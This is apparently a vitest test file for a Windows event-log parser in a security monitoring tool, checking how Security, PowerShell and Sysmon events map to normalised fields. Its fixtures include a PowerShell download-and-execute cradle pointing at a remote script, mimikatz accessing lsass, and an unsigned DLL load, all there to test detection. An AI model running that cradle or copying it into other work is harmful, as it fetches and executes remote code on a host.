import { describe, expect, it } from 'vitest';
import type { VigilEvent } from '../../core/event.ts';
import type { ParseContext } from '../types.ts';
import { parseWindows } from './windows.ts';
import { asBeat, asEvtx, SHAPES, type WinSample } from './windows-samples.fixture.ts';

const ctx: ParseContext = { received: Date.UTC(2026, 10, 22, 12), assumeTimeZone: 'UTC' };

function ok(raw: string): VigilEvent {
  const out = parseWindows(raw, ctx);
  if (!out.ok) throw new Error(`expected an event, got: ${out.reason}`);
  return out.event;
}

const security = (id: number, record: number, data: Record<string, string>): WinSample => ({
  id,
  channel: 'Security',
  provider: 'Microsoft-Windows-Security-Auditing',
  computer: 'DC01.corp.example',
  time: '2026-11-22T09:30:00Z',
  record,
  data,
});

const SUBJECT_SYSTEM = {
  SubjectUserSid: 'S-1-5-18',
  SubjectUserName: 'DC01$',
  SubjectDomainName: 'CORP',
  SubjectLogonId: '0x3e7',
};

const S4624 = security(4624, 1811201, {
  ...SUBJECT_SYSTEM,
  TargetUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1104',
  TargetUserName: 'alice',
  TargetDomainName: 'CORP',
  TargetLogonId: '0x8dcdc2',
  LogonType: '3',
  LogonProcessName: 'NtLmSsp ',
  AuthenticationPackageName: 'NTLM',
  WorkstationName: 'WS07',
  LogonGuid: '{00000000-0000-0000-0000-000000000000}',
  LmPackageName: 'NTLM V2',
  KeyLength: '128',
  ProcessId: '0x0',
  ProcessName: '-',
  IpAddress: '10.20.30.77',
  IpPort: '49822',
  ImpersonationLevel: '%%1833',
});

const S4625 = security(4625, 1811202, {
  SubjectUserSid: 'S-1-0-0',
  SubjectUserName: '-',
  SubjectDomainName: '-',
  SubjectLogonId: '0x0',
  TargetUserSid: 'S-1-0-0',
  TargetUserName: 'administrator',
  TargetDomainName: 'CORP',
  Status: '0xc000006d',
  FailureReason: '%%2313',
  SubStatus: '0xc000006a',
  LogonType: '10',
  LogonProcessName: 'User32 ',
  AuthenticationPackageName: 'Negotiate',
  WorkstationName: 'DC01',
  ProcessId: '0x1f4',
  ProcessName: 'C:\\Windows\\System32\\svchost.exe',
  IpAddress: '198.51.100.23',
  IpPort: '0',
});

const S4688 = security(4688, 1811203, {
  SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1104',
  SubjectUserName: 'alice',
  SubjectDomainName: 'CORP',
  SubjectLogonId: '0x8dcdc2',
  NewProcessId: '0x1a2c',
  NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
  TokenElevationType: '%%1938',
  ProcessId: '0x1778',
  CommandLine: 'whoami /all',
  TargetUserSid: 'S-1-0-0',
  TargetUserName: '-',
  TargetDomainName: '-',
  TargetLogonId: '0x0',
  ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
  MandatoryLabel: 'S-1-16-8192',
});

const SECURITY_COMMON = {
  '@timestamp': '2026-11-22T09:30:00.000Z',
  'winlog.channel': 'Security',
  'event.module': 'windows',
  'event.dataset': 'windows.security',
  'event.provider': 'Microsoft-Windows-Security-Auditing',
  'host.name': 'DC01.corp.example',
  'event.kind': 'event',
};

describe.each(SHAPES)('Security events in %s shape', (_shape, render) => {
  it('4624 successful network logon', () => {
    const ev = ok(render(S4624));
    expect(ev).toMatchObject({
      ...SECURITY_COMMON,
      'winlog.event_id': 4624,
      'event.code': '4624',
      'event.category': ['authentication'],
      'event.type': ['start'],
      'event.action': 'logged-in',
      'event.outcome': 'success',
      'user.name': 'alice',
      'user.domain': 'CORP',
      'user.id': 'S-1-5-21-1004336348-1177238915-682003330-1104',
      'source.ip': '10.20.30.77',
      'source.port': 49822,
      'source.domain': 'WS07',
      'winlog.logon.type': 'Network',
      'winlog.logon.id': '0x8dcdc2',
      'winlog.event_data.LogonType': '3',
      'winlog.event_data.TargetUserName': 'alice',
    });
    expect(ev['process.executable']).toBeUndefined();
    expect(ev['process.pid']).toBeUndefined();
  });

  it('4625 failed RDP logon', () => {
    expect(ok(render(S4625))).toMatchObject({
      ...SECURITY_COMMON,
      'event.code': '4625',
      'event.category': ['authentication'],
      'event.type': ['start'],
      'event.action': 'logon-failed',
      'event.outcome': 'failure',
      'user.name': 'administrator',
      'user.domain': 'CORP',
      'source.ip': '198.51.100.23',
      'winlog.logon.type': 'RemoteInteractive',
      'winlog.logon.failure.status': '0xc000006d',
      'winlog.logon.failure.sub_status': '0xc000006a',
      'process.executable': 'C:\\Windows\\System32\\svchost.exe',
      'process.name': 'svchost.exe',
      'process.pid': 500,
    });
    expect(ok(render(S4625))['source.port']).toBeUndefined();
  });

  it('4688 process creation', () => {
    expect(ok(render(S4688))).toMatchObject({
      ...SECURITY_COMMON,
      'event.code': '4688',
      'event.category': ['process'],
      'event.type': ['start'],
      'event.action': 'created-process',
      'event.outcome': 'success',
      'user.name': 'alice',
      'user.domain': 'CORP',
      'process.executable': 'C:\\Windows\\System32\\whoami.exe',
      'process.name': 'whoami.exe',
      'process.pid': 0x1a2c,
      'process.command_line': 'whoami /all',
      'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe',
      'process.parent.name': 'cmd.exe',
      'process.parent.pid': 0x1778,
      'winlog.event_data.NewProcessId': '0x1a2c',
    });
  });
});

describe('Security account and audit events', () => {
  it.each([
    [
      4720,
      {
        ...SUBJECT_SYSTEM,
        SubjectUserName: 'admin',
        TargetUserName: 'svc_backup',
        TargetDomainName: 'CORP',
        TargetSid: 'S-1-5-21-1-2-3-1190',
      },
      {
        'event.category': ['iam'],
        'event.type': ['user', 'creation'],
        'event.action': 'added-user-account',
        'user.name': 'admin',
        'user.target.name': 'svc_backup',
        'user.target.domain': 'CORP',
      },
    ],
    [
      4726,
      { ...SUBJECT_SYSTEM, SubjectUserName: 'admin', TargetUserName: 'temp01', TargetDomainName: 'CORP' },
      {
        'event.type': ['user', 'deletion'],
        'event.action': 'deleted-user-account',
        'user.target.name': 'temp01',
      },
    ],
    [
      4732,
      {
        ...SUBJECT_SYSTEM,
        SubjectUserName: 'admin',
        MemberName: '-',
        MemberSid: 'S-1-5-21-1-2-3-1104',
        TargetUserName: 'Administrators',
        TargetDomainName: 'Builtin',
        TargetSid: 'S-1-5-32-544',
      },
      {
        'event.type': ['group', 'change'],
        'event.action': 'added-member-to-group',
        'user.name': 'admin',
        'user.target.id': 'S-1-5-21-1-2-3-1104',
        'group.name': 'Administrators',
        'group.domain': 'Builtin',
        'group.id': 'S-1-5-32-544',
      },
    ],
    [
      4740,
      {
        ...SUBJECT_SYSTEM,
        TargetUserName: 'bob',
        TargetDomainName: 'WS09',
        TargetSid: 'S-1-5-21-1-2-3-1200',
      },
      {
        'event.action': 'locked-out-user-account',
        'user.name': 'DC01$',
        'user.target.name': 'bob',
        'source.domain': 'WS09',
      },
    ],
    [
      4648,
      {
        ...SUBJECT_SYSTEM,
        SubjectUserName: 'alice',
        TargetUserName: 'admin',
        TargetDomainName: 'CORP',
        TargetServerName: 'fs01.corp.example',
        ProcessId: '0x2f0',
        ProcessName: 'C:\\Windows\\System32\\runas.exe',
        IpAddress: '-',
        IpPort: '-',
      },
      {
        'event.action': 'logged-in-explicit',
        'user.name': 'alice',
        'user.target.name': 'admin',
        'destination.domain': 'fs01.corp.example',
        'process.name': 'runas.exe',
      },
    ],
    [
      4672,
      {
        ...SUBJECT_SYSTEM,
        SubjectUserName: 'admin',
        PrivilegeList: 'SeDebugPrivilege\n\t\t\tSeBackupPrivilege',
      },
      {
        'event.category': ['iam'],
        'event.type': ['admin'],
        'event.action': 'logged-in-special',
        'user.name': 'admin',
      },
    ],
    [
      4634,
      {
        TargetUserSid: 'S-1-5-21-1-2-3-1104',
        TargetUserName: 'alice',
        TargetDomainName: 'CORP',
        TargetLogonId: '0x8dcdc2',
        LogonType: '3',
      },
      {
        'event.type': ['end'],
        'event.action': 'logged-out',
        'user.name': 'alice',
        'winlog.logon.type': 'Network',
      },
    ],
  ] as const)('%i', (id, data, expected) => {
    expect(ok(asBeat(security(id, 1, data)))).toMatchObject({
      ...SECURITY_COMMON,
      'event.outcome': 'success',
      ...expected,
    });
  });

  it('1102 audit log cleared reads the subject from UserData', () => {
    const sample: WinSample = {
      ...security(1102, 1811300, {}),
      provider: 'Microsoft-Windows-Eventlog',
      userData: [
        'LogFileCleared',
        {
          SubjectUserSid: 'S-1-5-21-1-2-3-500',
          SubjectUserName: 'admin',
          SubjectDomainName: 'CORP',
          SubjectLogonId: '0x1a2b3',
        },
      ],
    };
    expect(ok(asEvtx(sample))).toMatchObject({
      'event.category': ['iam'],
      'event.type': ['admin', 'change'],
      'event.action': 'audit-log-cleared',
      'user.name': 'admin',
      'user.domain': 'CORP',
      'user.id': 'S-1-5-21-1-2-3-500',
      'winlog.user_data.SubjectUserName': 'admin',
      'event.dataset': 'windows.security',
    });
  });
});

describe('PowerShell and more Sysmon events', () => {
  it('4104 script block logging', () => {
    const sample: WinSample = {
      id: 4104,
      channel: 'Microsoft-Windows-PowerShell/Operational',
      provider: 'Microsoft-Windows-PowerShell',
      computer: 'WS01.corp.example',
      time: '2026-11-22T10:01:00Z',
      record: 4410,
      data: {
        MessageNumber: '1',
        MessageTotal: '1',
        ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')",
        ScriptBlockId: 'b4e3d8c1-7d2a-4f7e-9d43-3c2f1a0e5b6c',
        Path: '',
      },
    };
    const ev = ok(asBeat(sample));
    expect(ev).toMatchObject({
      'event.module': 'windows',
      'event.dataset': 'windows.powershell_operational',
      'event.category': ['process'],
      'event.type': ['info'],
      'powershell.file.script_block_text':
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')",
      'powershell.file.script_block_id': 'b4e3d8c1-7d2a-4f7e-9d43-3c2f1a0e5b6c',
      'powershell.sequence': 1,
      'powershell.total': 1,
    });
    expect(ev['file.path']).toBeUndefined();
  });

  const sysmon = (id: number, data: Record<string, string>): WinSample => ({
    id,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'Microsoft-Windows-Sysmon',
    computer: 'WS01',
    time: '2026-11-22T10:00:00Z',
    record: 1,
    data,
  });

  it('7 image load → dll.*', () => {
    const ev = ok(
      asEvtx(
        sysmon(7, {
          Image: 'C:\\Windows\\System32\\rundll32.exe',
          ImageLoaded: 'C:\\Users\\Public\\evil.dll',
          Hashes: 'MD5=00000000000000000000000000000000,SHA256=AB12',
          Signed: 'false',
          SignatureStatus: 'Unavailable',
        }),
      ),
    );
    expect(ev).toMatchObject({
      'event.category': ['process'],
      'event.type': ['change'],
      'dll.path': 'C:\\Users\\Public\\evil.dll',
      'dll.name': 'evil.dll',
      'dll.hash.sha256': 'ab12',
      'dll.code_signature.signed': false,
      'process.name': 'rundll32.exe',
    });
    expect(ev['dll.hash.md5']).toBeUndefined();
  });

  it('10 process access → the source process is process.*', () => {
    expect(
      ok(
        asBeat(
          sysmon(10, {
            SourceProcessGUID: '{aaaa}',
            SourceProcessId: '7001',
            SourceThreadId: '7002',
            SourceImage: 'C:\\Temp\\mimikatz.exe',
            TargetImage: 'C:\\Windows\\System32\\lsass.exe',
            GrantedAccess: '0x1010',
            SourceUser: 'CORP\\alice',
          }),
        ),
      ),
    ).toMatchObject({
      'event.type': ['access'],
      'process.executable': 'C:\\Temp\\mimikatz.exe',
      'process.pid': 7001,
      'process.thread.id': 7002,
      'process.entity_id': '{aaaa}',
      'user.name': 'alice',
      'winlog.event_data.TargetImage': 'C:\\Windows\\System32\\lsass.exe',
      'winlog.event_data.GrantedAccess': '0x1010',
    });
  });

  it('12 key create and 13 DWORD value set', () => {
    expect(
      ok(asBeat(sysmon(12, { EventType: 'CreateKey', TargetObject: 'HKLM\\SOFTWARE\\Evil' }))),
    ).toMatchObject({
      'registry.hive': 'HKLM',
      'registry.key': 'SOFTWARE\\Evil',
      'registry.path': 'HKLM\\SOFTWARE\\Evil',
    });
    expect(
      ok(
        asBeat(
          sysmon(13, {
            EventType: 'SetValue',
            TargetObject: 'HKLM\\System\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin',
            Details: 'DWORD (0x00000000)',
          }),
        ),
      ),
    ).toMatchObject({
      'registry.key': 'System\\CurrentControlSet\\Control\\Lsa',
      'registry.value': 'DisableRestrictedAdmin',
      'registry.data.type': 'SZ_DWORD',
      'registry.data.strings': ['0'],
    });
  });

  it('an event ID with no table entry still gets the common fields and no categorization', () => {
    const ev = ok(
      asBeat({ ...sysmon(4, { State: 'Started' }), channel: 'Application', provider: 'MsiInstaller' }),
    );
    expect(ev).toMatchObject({
      'event.code': '4',
      'event.dataset': 'windows.application',
      'event.module': 'windows',
    });
    expect(ev['event.category']).toBeUndefined();
    expect(ev['event.action']).toBeUndefined();
  });
});
